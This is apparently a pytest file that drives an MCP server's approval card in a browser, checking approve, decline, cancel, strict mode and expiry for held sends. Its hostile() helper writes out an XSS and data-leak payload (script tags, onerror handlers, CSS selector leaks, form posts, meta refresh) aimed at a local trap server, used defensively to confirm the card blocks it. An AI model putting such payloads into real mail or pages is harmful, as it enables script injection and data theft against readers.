"""MCP Apps views in a real browser, hosted by the reference host bridge (tests/views_harness.py): the
approval card shows a held write field by field and approves it once, declines it, cannot approve in strict
mode, says what became of an action decided elsewhere, expired or changed, and renders a hostile mail without
running or fetching anything. Clients without the extension see tools/list and resources/list as before."""

from __future__ import annotations

import hashlib
import json
import re
from typing import Any

import anyio
import pytest
from mcp import Client

from google_mcp.server import build_server
from helpers import control
from mcp_helpers import call
from test_browser import Site
from test_docs import doc_id, docs
from views_harness import Harness, Mounted, connect_apps

pytestmark = pytest.mark.anyio

CARD = "ui://google-mcp/card"
DANA = "dana.whitfield@example.com"
MAIL = {"to": [DANA], "subject": "Board pack", "body_text": "Attached tonight."}


@pytest.fixture(scope="module")
def anyio_backend() -> str:  # the browser (`harness`) lives for the module
    return "asyncio"


def sends(sandbox_url: str) -> int:
    return sum(1 for r in control(sandbox_url, "/_sandbox/requests")["requests"] if r["path"].endswith("/send"))


def listed(tools: Any) -> str:
    return json.dumps([t.model_dump(by_alias=True, mode="json", exclude_none=True) for t in tools])


async def shown_fields(view: Mounted) -> dict[str, str]:
    """The card's label/value pairs, as the page shows them."""
    pairs = await view.view_frame().evaluate(
        "() => [...document.querySelectorAll('dl.fields dt')].map(dt => [dt.textContent, "
        "dt.nextElementSibling.textContent])"
    )
    return dict(pairs)


async def test_only_a_client_with_the_extension_is_offered_views(fresh_sandbox: Any, make_settings: Any) -> None:
    settings = make_settings(fresh_sandbox.url)
    for mode in ("legacy", "auto"):  # auto: 2026-07-28, after server/discover
        async with Client(build_server(settings), mode=mode) as plain, connect_apps(settings, mode=mode) as apps:
            if mode == "auto":  # the server says so (the 2025-11-25 wire has no such field: the SDK drops it)
                assert "io.modelcontextprotocol/ui" in (apps.server_capabilities.extensions or {})
            without, with_views = (await plain.list_tools()).tools, (await apps.list_tools()).tools
            assert "_meta" not in listed(without) and "ui://" not in listed(without)
            assert not [r for r in (await plain.list_resources()).resources if str(r.uri).startswith("ui://")]
            viewed = {t.name: (t.meta or {}).get("ui") for t in with_views if (t.meta or {}).get("ui")}
            assert viewed["gmail_send"] == {"resourceUri": CARD} and viewed["sms_send"] == {"resourceUri": CARD}
            for own in ("view_pending_action", "decline_pending_action"):  # the card's own: never the model's
                assert viewed[own] == {"resourceUri": CARD, "visibility": ["app"]}
            assert viewed["gmail_search"] == {"resourceUri": "ui://google-mcp/inbox"}  # a read shows its own view
            assert "gmail_get_message" not in viewed and "view_pending_action" not in {t.name for t in without}
            # the same tools, byte for byte, once the views' additions are taken away
            stripped = [
                t.model_copy(update={"meta": None}) for t in with_views if not t.name.endswith("_pending_action")
            ]
            assert listed(stripped) == listed(without)
            resources = {str(r.uri): r for r in (await apps.list_resources()).resources}
            assert resources[CARD].mime_type == "text/html;profile=mcp-app"
            assert (resources[CARD].meta or {})["ui"]["csp"] == {}  # nothing to connect to or load
            for own in ("view_pending_action", "decline_pending_action"):
                assert (await plain.call_tool(own, {"confirmation_id": "x"})).is_error
            held = await call(plain, "gmail_send", MAIL)  # the text a model reads carries no card
            assert "card" not in json.dumps(held) and '"kind"' not in json.dumps(held)


async def test_the_card_shows_the_mail_field_by_field_and_approves_it_once(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    settings = make_settings(fresh_sandbox.url)
    pack = settings.attachment_roots[0] / "Q3 board pack.pdf"
    pack.write_bytes(b"%PDF-1.4 board pack " * 300)
    args = {
        "to": [DANA],
        "cc": ["sam.okafor@example.com"],
        "bcc": ["audit@example.com"],
        "subject": "Board pack — Q3 (final)",
        "body_text": "Dear Dana,\nthe pack is attached.",
        "body_html": "<p>Dear <b>Dana</b>,</p><p>the pack is attached.</p>",
        "attachments": [str(pack)],
    }
    async with connect_apps(settings) as client:
        result = await client.call_tool("gmail_send", args)
        held = result.structured_content
        assert held is not None and held["status"] == "confirmation_required"
        details = held["preview"]["details"]
        async with harness.mount(client, CARD, "gmail_send", args, result) as view:
            approve = view.frame.get_by_role("button", name="Approve")
            await approve.wait_for()
            fields = await shown_fields(view)
            assert fields == {
                "From": "alex.morgan@example.com",
                "To": DANA,
                "Cc": "sam.okafor@example.com",
                "Bcc": "audit@example.com",
                "Subject": "Board pack — Q3 (final)",
            }
            for label, value in fields.items():  # each is what the preview says
                assert f"{label}: {value}" in details
            text = await view.text()
            assert "Dear Dana,\nthe pack is attached." in text
            digest = hashlib.sha256(pack.read_bytes()).hexdigest()
            assert f"Q3 board pack.pdf · application/pdf · {pack.stat().st_size / 1024:.1f} KB" in text
            assert f"SHA-256 {digest}" in text and digest[:16] in "\n".join(details)
            mail_body = view.frame.frame_locator("iframe.mail").locator("body")
            assert (await mail_body.inner_text()).split() == ["Dear", "Dana,", "the", "pack", "is", "attached."]
            assert await view.scroll_width() <= 390
            assert await view.serious_axe_violations() == []
            await view.shot("card-mail-390-light")
            await view.shot("card-mail-desktop-light", width=900)
            await approve.dblclick()
            everyone = r"dana\.whitfield@example\.com, sam\.okafor@example\.com, audit@example\.com"
            sent = re.compile(rf"^Sent to {everyone} at \d\d:\d\d")
            said = view.frame.get_by_text(sent)
            await said.wait_for()
            assert view.foreign_requests() == [] and view.dialogs == []
            assert [name for name, _ in view.calls].count("confirm_action") == 1
        assert sends(fresh_sandbox.url) == 1
        assert (await call(client, "list_pending_actions")).get("actions", []) == []


async def test_decline_sends_nothing_and_the_card_reads_in_dark(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    async with connect_apps(make_settings(fresh_sandbox.url)) as client:
        result = await client.call_tool("gmail_send", MAIL)
        async with harness.mount(client, CARD, "gmail_send", MAIL, result, theme="dark") as view:
            decline = view.frame.get_by_role("button", name="Decline")
            await decline.wait_for()
            background = await view.view_frame().evaluate("() => getComputedStyle(document.body).backgroundColor")
            assert background == "rgb(22, 24, 29)"
            await view.shot("card-mail-390-dark")
            assert await view.serious_axe_violations() == []
            await decline.click()
            await view.frame.get_by_text("Declined: nothing was done").wait_for()
            assert "confirm_action" not in [name for name, _ in view.calls]
        assert sends(fresh_sandbox.url) == 0
        assert (await call(client, "list_pending_actions")).get("actions", []) == []
        steps = [e["step"] for e in (await call(client, "activity_log", {"tool": "gmail_send"}))["entries"]]
        assert steps[0] == "declined"  # the record says the person said no


async def test_an_approved_send_held_in_the_undo_window_says_when_it_goes_and_its_cancel_stops_it(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    settings = make_settings(fresh_sandbox.url, undo_seconds=600)  # a person who reads it again for ten minutes
    async with connect_apps(settings) as client:
        result = await client.call_tool("gmail_send", MAIL)
        async with harness.mount(client, CARD, "gmail_send", MAIL, result) as view:
            await view.frame.get_by_role("button", name="Approve").click()
            cancel = view.frame.get_by_role("button", name="Cancel")
            await cancel.wait_for()
            text = await view.text()
            assert "Approved; it goes at the time shown. Until then, Cancel stops it." in text
            assert re.search(r"Goes .*\d\d:\d\d", text) and "cancel_action" not in text
            assert await view.frame.get_by_role("button", name="Approve").count() == 0
            held = (await call(client, "list_pending_actions"))["actions"]
            assert [a["goes_at"] is not None for a in held] == [True] and sends(fresh_sandbox.url) == 0
            assert await view.serious_axe_violations() == []
            await cancel.click()
            await view.frame.get_by_text("nothing was sent").wait_for()
            assert await view.frame.get_by_role("button").count() == 0
            assert [name for name, _ in view.calls].count("decline_pending_action") == 1
        assert (await call(client, "list_pending_actions")).get("actions", []) == []
        steps = [e["step"] for e in (await call(client, "activity_log", {"tool": "gmail_send"}))["entries"]]
        assert steps[0] == "cancelled"
    assert sends(fresh_sandbox.url) == 0


async def test_in_strict_mode_the_card_cannot_approve_and_says_where_the_person_does(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    async with connect_apps(make_settings(fresh_sandbox.url, confirmation="strict")) as client:
        result = await client.call_tool("gmail_send", MAIL)
        cid = result.structured_content["confirmation_id"]  # type: ignore[index]
        async with harness.mount(client, CARD, "gmail_send", MAIL, result) as view:
            await view.frame.get_by_role("button", name="Decline").wait_for()
            assert await view.frame.get_by_role("button", name="Approve").count() == 0
            assert f"this card cannot approve. Approve it in a terminal with `google-mcp approve {cid}`" in (
                await view.text()
            )
            assert "confirm_action" not in [name for name, _ in view.calls]
        assert sends(fresh_sandbox.url) == 0


def hostile(trap: str) -> str:
    return (
        "<p>Quarterly numbers</p>"
        "<script>console.log('PWNED script'); alert('PWNED')</script>"
        f'<img src="{trap}img.png" onerror="console.log(\'PWNED onerror\')">'
        "<img src=x onerror=\"alert('PWNED')\">"
        f'<form action="{trap}form" method="post"><input name=q value=secret><button>Go</button></form>'
        f"<style>@import url({trap}import.css); body{{background:url({trap}css.png)}}"
        f" input[value^=s]{{background:url({trap}leak-s)}}</style>"
        f'<meta http-equiv="refresh" content="0;url={trap}refresh">'
        f'<link rel="stylesheet" href="{trap}link.css"><link rel="prefetch" href="{trap}prefetch">'
        f'<iframe src="{trap}frame"></iframe><object data="{trap}object"></object>'
        '<svg><image href="https://example.invalid/x.png"/></svg>'
        '<p style="display:none">hidden from the reader</p>'
    )


async def test_a_hostile_mail_runs_nothing_and_loads_nothing_in_the_card(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    trap = Site("<!doctype html><title>trap</title>")  # any request reaching it would be a leak
    hits: list[str] = []
    handler = trap.server.RequestHandlerClass
    original = handler.do_GET

    def recorded(self: Any) -> None:
        hits.append(self.path)
        original(self)

    handler.do_GET = recorded  # type: ignore[method-assign]
    handler.do_POST = recorded  # type: ignore[attr-defined]
    args = {
        "to": [DANA],
        "subject": "<img src=x onerror=alert('PWNED')> Q3",
        "body_html": hostile(trap.url),
    }
    try:
        async with connect_apps(make_settings(fresh_sandbox.url)) as client:
            result = await client.call_tool("gmail_send", args)
            async with harness.mount(client, CARD, "gmail_send", args, result) as view:
                await view.frame.get_by_role("button", name="Approve").wait_for()
                nested = next(f for f in view.page.frames if f.parent_frame is view.view_frame())
                await nested.wait_for_load_state("load")
                assert (await shown_fields(view))["Subject"] == "<img src=x onerror=alert('PWNED')> Q3"
                marks = await view.view_frame().evaluate(
                    "() => [...document.querySelectorAll('[data-mark]')].map(m => m.textContent)"
                )
                assert any(m.startswith("Hidden in the HTML") and "hidden from the reader" in m for m in marks)
                assert any(m.startswith("Resources the mail loads") and trap.url in m for m in marks)
                assert any(m.startswith("Forms, refreshes") for m in marks)
                assert "Quarterly numbers" in await view.frame.frame_locator("iframe.mail").locator("body").inner_text()
                assert await view.serious_axe_violations() == []
                assert view.foreign_requests() == [], (view.foreign_requests(), view.console)
                assert view.dialogs == [] and not [m for m in view.console if "PWNED" in m]
                assert len(view.blocked) >= 8  # each was stopped by the policy before it left the browser
        assert hits == []
        assert sends(fresh_sandbox.url) == 0
    finally:
        trap.close()


async def test_the_card_says_what_became_of_an_action_approved_elsewhere_or_expired(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    url = fresh_sandbox.url
    async with connect_apps(make_settings(url)) as client:
        result = await client.call_tool("gmail_send", MAIL)
        cid = result.structured_content["confirmation_id"]  # type: ignore[index]
        async with harness.mount(client, CARD, "gmail_send", MAIL, result) as view:
            approve = view.frame.get_by_role("button", name="Approve")
            await approve.wait_for()
            await call(client, "confirm_action", {"confirmation_id": cid})  # approved elsewhere meanwhile
            await approve.click()  # the card looks again before it acts
            await view.frame.get_by_text("Sent to dana.whitfield@example.com at").wait_for()
            assert [name for name, _ in view.calls] == ["view_pending_action", "view_pending_action"]
        assert sends(url) == 1

    async with connect_apps(make_settings(url, pending_ttl=1)) as client:
        result = await client.call_tool("gmail_send", MAIL)
        cid = result.structured_content["confirmation_id"]  # type: ignore[index]
        with anyio.fail_after(10):
            while (await call(client, "view_pending_action", {"confirmation_id": cid}))["state"] != "expired":
                await anyio.sleep(0.1)
        async with harness.mount(client, CARD, "gmail_send", MAIL, result) as view:
            await view.frame.get_by_text("This expired before it was approved").wait_for()
            assert await view.frame.get_by_role("button", name="Approve").count() == 0
    assert sends(url) == 1


async def test_a_document_changed_since_the_preview_comes_back_to_the_card_fresh(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    url = fresh_sandbox.url
    launch = doc_id(url, "Apollo launch")
    args = {"document_id": launch, "markdown": "Signed off by **Alex**."}
    async with connect_apps(make_settings(url)) as client:
        result = await client.call_tool("docs_append", args)
        async with harness.mount(client, CARD, "docs_append", args, result) as view:
            approve = view.frame.get_by_role("button", name="Approve")
            await approve.wait_for()
            assert "Signed off by **Alex**." in await view.view_frame().locator(".after").inner_text()
            docs(url).documents().batchUpdate(
                documentId=launch, body={"requests": [{"insertText": {"location": {"index": 1}, "text": "Draft. "}}]}
            ).execute()
            await approve.click()
            await view.frame.get_by_text("changed since the preview").wait_for()
            assert "Signed off" not in (await call(client, "docs_read", {"document_id": launch}))["markdown"]
            await view.frame.get_by_role("button", name="Approve").click()  # the fresh preview's
            await view.frame.get_by_text(re.compile("^Done: Add to a Google Doc")).wait_for()
        text = (await call(client, "docs_read", {"document_id": launch}))["markdown"]
    assert text.count("Signed off by **Alex**.") == 1


async def test_the_card_shows_an_event_a_doc_edit_a_slack_post_and_a_text_as_their_previews_do(
    harness: Harness, fresh_sandbox: Any, make_settings: Any
) -> None:
    url = fresh_sandbox.url
    event = {
        "summary": "Offsite planning",
        "start": "2026-12-14T15:00:00",
        "end": "2026-12-14T16:00:00",
        "time_zone": "America/New_York",
        "attendees": [DANA],
        "location": "Room 4",
    }
    section = {"document_id": doc_id(url, "Q3 planning"), "heading": "Notes", "occurrence": 2, "markdown": "One bus."}
    post = {"channel": "#launch", "text": "Standup moved to 9:30"}
    text = {"to": "+1 (415) 555-0123", "text": "ż" * 71}  # not GSM-7: 70 a segment, so two
    async with connect_apps(make_settings(url)) as client:
        for tool, args, expected in (
            # the person's zone is Paris (the host says so); the event's own zone is named beside it
            ("calendar_create_event", event, {"Event": "Offsite planning", "Where": "Room 4"}),
            ("docs_replace_section", section, {"Document": "Q3 planning offsite — agenda"}),
            ("slack_post_message", post, {"Channel": "#launch (3 members)"}),
            ("sms_send", text, {"To": "+14155550123", "From": "+15551234567"}),
        ):
            result = await client.call_tool(tool, args)
            details = "\n".join(result.structured_content["preview"]["details"])  # type: ignore[index]
            async with harness.mount(client, CARD, tool, args, result) as view:
                await view.frame.get_by_role("button", name="Approve").wait_for()
                fields = await shown_fields(view)
                assert expected.items() <= fields.items(), fields
                shown = await view.text()
                if tool == "calendar_create_event":
                    assert fields["When"].startswith("Mon, Dec 14, 09:00 PM GMT+1") and "10:00 PM" in fields["When"]
                    assert fields["In America/New_York"].startswith("Mon, Dec 14, 03:00 PM EST")
                    assert DANA in shown and "Start: 2026-12-14T15:00:00-05:00 (America/New_York)" in details
                if tool == "docs_replace_section":
                    before = await view.view_frame().locator(".before").inner_text()
                    assert (
                        "SELECT * FROM plans" in before
                        and "One bus." in await view.view_frame().locator(".after").inner_text()
                    )
                if tool == "sms_send":
                    assert fields["Segments"].startswith("2 (UCS-2") and "Segments: 2 (71 characters)" in details
                if tool in ("slack_post_message", "sms_send"):
                    assert args["text"] in shown and f"Text:\n{args['text']}" in details
                else:  # axe on the event and the edit here (the mail above; Slack and SMS as the mail text)
                    assert await view.serious_axe_violations() == []
        assert (await call(client, "list_pending_actions"))["actions"]  # all still waiting: nothing was done
